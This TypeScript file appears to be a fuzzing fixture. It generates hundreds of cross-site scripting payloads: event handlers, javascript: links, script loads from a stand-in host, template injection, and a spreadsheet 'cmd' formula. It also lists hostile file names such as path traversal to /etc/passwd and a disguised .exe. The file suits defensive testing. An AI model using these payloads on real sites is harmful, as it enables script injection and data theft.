/**
 * Texts that would run, or leave the page, where they are read as markup: each way to run a script (kinds), each way out
 * of the place where a text stands (breakouts), each way to write it (disguises). `alert(number)` tells which one ran.
 */

/** The host that a text asks, where it is read as markup. */
export const elsewhere = "https://elsewhere.example";

const kinds: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
  (run) => `<form action="javascript:${run}"><button autofocus onfocus=${run}>x</button></form>`,
  (run) => `<style>@import "${elsewhere}/${run}.css";*{background:url(${elsewhere}/${run})}</style>`,
  (run) => `<link rel=stylesheet href="${elsewhere}/${run}">`,
  (run) => `<base href="${elsewhere}/${run}/">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<img src="${elsewhere}/${run}.png">`,
  (run) => `<script src="${elsewhere}/${run}.js"></script>`,
  (run) => `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `[x](javascript:${run})`,
  (run) => `[x](<javascript:${run}>)`,
  (run) => `[x](&#106;avascript:${run})`,
  (run) => `[x](data:text/html;base64,PHNjcmlwdD4=${run})`,
  (run) => `[x]: javascript:${run} "x"`,
  (run) => `![x](${elsewhere}/${run}.png)`,
  (run) => `![x](x" onerror="${run})`,
  (run) => `<javascript:${run}>`,
  (run) => `{{ constructor.constructor("${run}")() }}{% include "/etc/passwd" %}`,
  (run) => `<%= ${run} %>\${${run}}#{${run}}`,
  (run) => `--- !!js/function "${run}" &a *a <<: {permalink: ${run}}`,
  (run) => `"};${run};//`,
  (run) => `=cmd|'/c calc'!A1;${run}`,
];

const breakouts: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `</title></style></textarea></noscript>${attack}`,
  (attack) => `</script>${attack}`,
  (attack) => `--> ]]>${attack}<!--`,
  (attack) => `</code></pre></li></ol></details>${attack}`,
  (attack) => `x\u2028\u0085</p>${attack}`,
  (attack) => `\\" \\' \\\\${attack}`,
];

const disguises: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.replace(/[a-z](?=[a-z]*[\s>])/g, (letter) => letter.toUpperCase()),
  (attack) => attack.replace(/<(\w)/g, "<\u00ad$1"),
  (attack) => attack.replace(/<(\w)/g, "<\u0001$1").replace(/script/g, "scr\u200bipt"),
  (attack) => attack.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  (attack) => attack.replaceAll("<", "&#60;").replaceAll(":", "&colon;"),
  (attack) => attack.replaceAll("<", "\\u003c").replaceAll("<", "%3C"),
  (attack) => attack.replace(/<(\w+) /g, "<$1\t/"),
];

/** Every kind in every breakout in every disguise, each with a number of its own: one line each, some the same as another. */
export const attacks: readonly string[] = kinds.flatMap((kind, at) =>
  breakouts.flatMap((breakout, out) =>
    disguises.map((disguise, as) =>
      disguise(breakout(kind(`alert(${(at * breakouts.length + out) * disguises.length + as})`))),
    ),
  ),
);

/** Names that a file system, a folder or a reader's eye would take for something else. */
export const oddNames: readonly string[] = [
  "../../etc/passwd",
  "..\\..\\boot.ini",
  "/etc/passwd",
  "C:\\con",
  "CON",
  "con.txt",
  "NUL.",
  "AUX ",
  "COM¹",
  "LPT9.md",
  ".",
  "..",
  "...",
  "-rf",
  "~root",
  "index",
  "__proto__",
  "constructor",
  "%2e%2e%2f",
  'a:b*?"<>|',
  "\u202egpj.exe",
  "🙂".repeat(300),
  "å".repeat(300),
  "A\u030a",
  "ordet ".repeat(60),
];
